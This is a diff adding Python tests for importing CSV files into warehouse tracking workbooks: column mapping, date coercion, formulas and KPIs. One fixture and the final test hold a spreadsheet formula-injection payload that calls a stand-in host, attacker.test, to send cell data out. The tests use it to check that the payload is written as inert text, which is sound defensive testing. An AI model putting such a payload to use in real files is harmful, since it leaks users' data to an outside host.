@@ -0,0 +1,169 @@
+#!/usr/bin/env python3
+"""
+Tests for bulk CSV import into the tracking sheets
+"""
+
+import os
+import tempfile
+import zipfile
+from datetime import datetime, time
+
+import openpyxl
+
+from append_workbook import WorkbookAppender
+from bulk_import import ColumnMapping, TrackingImport, detect_sheet, import_sources
+from create_formula_based_excel import FormulaBasedExcelGenerator
+from parallel_generator import ParallelExcelGenerator
+from kpi_engine import dashboard_kpis
+from test_generator import generate_quietly
+
+WAVES_CSV = """\ufeffwave_id,START TIME,Target End,actual_end,Duration (mins),tasks_total,Tasks Complete,status,shift
+W-1,2024-01-05 08:00:00,2024-01-05 09:00:00,2024-01-05 08:45:00,999,"1,200",1200,Complete,A
+W-2,01/05/2024 09:00,01/05/2024 10:00,01/05/2024 10:30,,50,40,In Progress,B
+W-3,45296.5,not a date,,,,,Complete,A
+"""
+
+PICKS_CSV = """Task ID,Employee ID,Start Time,End Time,Items Picked,Target Time (mins)
+PT-1,E1,08:00,08:30,40,25
+PT-2,E2,9:15 AM,9:40 AM,30,20
+"""
+
+TRAINING_CSV = """Employee ID,Name,Training Module,Status,Score
+E1,Ann,Safety,Completed,95%
+E2,Ben,Picking,Completed, 87.5 %
+E3,Cy,Packing,Completed,80
+"""
+
+STOCK_CSV = """Replen ID,SKU,Request Time,Received Time,Status
+REP-1,SKU-1,2024-01-05 08:00,2024-01-05 11:00,Complete
+REP-2,SKU-2,2024-01-05 09:00,2024-01-05 12:00,Complete
+"""
+
+INJECTED_CSV = """Wave ID,Status,Notes
+W-1,"=HYPERLINK(""http://attacker.test/?d=""&A1,""Open"")",=1+1
+"""
+
+AUDITS_CSV = """Audit ID,Date,Auditor,Items Processed,Items Audited
+QA-1,2024-01-05,Ann,200,10
+QA-2,2024-01-06,Ben,100,8
+"""
+
+
+def write_file(directory, name, text):
+    path = os.path.join(directory, name)
+    with open(path, 'w', encoding='utf-8', newline='') as f:
+        f.write(text)
+    return path
+
+
+def test_header_mapping():
+    """Columns map by normalized name; formula columns are recalculated"""
+    mapping = ColumnMapping('Wave Tracking', ['wave_id', 'START TIME', 'Duration (mins)', 'shift'])
+    assert mapping.sources == {'Wave ID': 0, 'Start Time': 1}
+    assert mapping.replaced == ['Duration (mins)']
+    assert mapping.ignored == ['shift']
+    assert detect_sheet(['Task ID', 'Employee ID', 'Items Picked']) == 'Picking Tasks'
+    assert detect_sheet(['mismatch_id', 'sku', 'system_count']) == 'Inventory Mismatch'
+
+
+def test_rows_are_coerced_and_get_formulas():
+    """Dates, numbers and per-row formulas across several read chunks"""
+    with tempfile.TemporaryDirectory() as tmp:
+        source = TrackingImport('Wave Tracking', write_file(tmp, 'waves.csv', WAVES_CSV),
+                                chunk_rows=2)
+        rows = list(source.iter_rows(5))
+
+    assert rows[0] == ['W-1', datetime(2024, 1, 5, 8), datetime(2024, 1, 5, 9),
+                       datetime(2024, 1, 5, 8, 45), '=(D5-B5)*24*60', 1200, 1200, 'Complete', None]
+    assert rows[1][1] == datetime(2024, 1, 5, 9) and rows[1][6] == 40
+    assert rows[2][1] == datetime(2024, 1, 5, 12)       # Excel serial
+    assert rows[2][2] == 'not a date'
+    assert rows[2][4] == '=(D7-B7)*24*60'
+    assert source.unconverted == {'Target End': 1}
+
+
+def test_percent_scores():
+    """Training scores in the documented "95%" format are read as fractions"""
+    with tempfile.TemporaryDirectory() as tmp:
+        source = TrackingImport('Employee Training', write_file(tmp, 'training.csv', TRAINING_CSV))
+        rows = list(source.iter_rows(4))
+
+    assert [row[7] for row in rows] == [0.95, 0.875, 80]
+    assert source.unconverted == {}
+
+
+def test_import_into_workbook():
+    """Imported rows land below the layout with formatted formula columns"""
+    with tempfile.TemporaryDirectory() as tmp:
+        data = import_sources([write_file(tmp, 'waves.csv', WAVES_CSV),
+                               write_file(tmp, 'picks.csv', PICKS_CSV)])
+        assert sorted(data) == ['Picking Tasks', 'Wave Tracking']
+        path = generate_quietly(FormulaBasedExcelGenerator(), os.path.join(tmp, 'import.xlsx'),
+                                data=data)
+        wb = openpyxl.load_workbook(path)
+
+    # The first imported row takes the place of the sample row
+    waves = wb['Wave Tracking']
+    assert waves.max_row == 6
+    assert waves['A4'].value == 'W-1'
+    assert waves['E5'].value == '=(D5-B5)*24*60'
+    assert waves['E5'].number_format == '0'
+    picks = wb['Picking Tasks']
+    assert picks['D5'].value == time(9, 15)
+    assert picks['H5'].value == '=(E5-D5)*24*60'
+    assert picks['I5'].value == '=G5/H5'
+    assert picks['I5'].number_format == '0%'
+    assert wb.defined_names['PickingTasks_EfficiencyPct'].attr_text == "'Picking Tasks'!$I$4:$I$1005"
+
+
+def test_imported_kpis():
+    """Dashboard KPIs over imported rows see the data only, not the sample formulas"""
+    with tempfile.TemporaryDirectory() as tmp:
+        data = import_sources([write_file(tmp, 'picks.csv', PICKS_CSV),
+                               write_file(tmp, 'stock.csv', STOCK_CSV),
+                               write_file(tmp, 'audits.csv', AUDITS_CSV)])
+        path = generate_quietly(FormulaBasedExcelGenerator(), os.path.join(tmp, 'import.xlsx'),
+                                data=data)
+        kpis = {kpi['metric']: kpi for kpi in dashboard_kpis(path)}
+
+    stock = kpis['Stock Replenishment Time']
+    assert abs(stock['current'] - 3) < 1e-9 and stock['status'] == 'Critical'
+    assert abs(kpis['Quality Audit Coverage']['current'] - 0.065) < 1e-9
+    # (25/30 + 20/25) / 2
+    picking = kpis['Picking Efficiency']
+    assert abs(picking['current'] - (25 / 30 + 0.8) / 2) < 1e-9
+    assert picking['status'] == 'Needs Improvement'
+
+
+def test_formula_text_is_not_a_formula():
+    """Imported text starting with '=' is written as a string by every writer"""
+    hyperlink = '=HYPERLINK("http://attacker.test/?d="&A1,"Open")'
+    with tempfile.TemporaryDirectory() as tmp:
+        csv_path = write_file(tmp, 'waves.csv', INJECTED_CSV)
+        for name, generator in [('openpyxl', FormulaBasedExcelGenerator(cache_values=False)),
+                                ('streaming', FormulaBasedExcelGenerator(cache_values=False,
+                                                                         streaming=True)),
+                                ('parallel', ParallelExcelGenerator(workers=1,
+                                                                    cache_values=False))]:
+            path = generate_quietly(generator, os.path.join(tmp, f'{name}.xlsx'),
+                                    data=import_sources([csv_path]))
+            WorkbookAppender(path).append(import_sources([csv_path]), progress=None)
+            with zipfile.ZipFile(path) as zf:
+                xml = zf.read('xl/worksheets/sheet3.xml')
+            assert b'<f>HYPERLINK' not in xml and b'<f>1+1' not in xml, name
+            waves = openpyxl.load_workbook(path)['Wave Tracking']
+            for row in (4, 5):
+                assert waves[f'H{row}'].value == hyperlink and waves[f'H{row}'].data_type == 's'
+                assert waves[f'I{row}'].value == '=1+1' and waves[f'I{row}'].data_type == 's'
+            # The per-row formulas are still formulas
+            assert waves['E5'].value == '=(D5-B5)*24*60' and waves['E5'].data_type == 'f', name
+
+
+if __name__ == '__main__':
+    test_header_mapping()
+    test_rows_are_coerced_and_get_formulas()
+    test_percent_scores()
+    test_import_into_workbook()
+    test_imported_kpis()
+    test_formula_text_is_not_a_formula()
+    print("✅ Bulk import tests passed")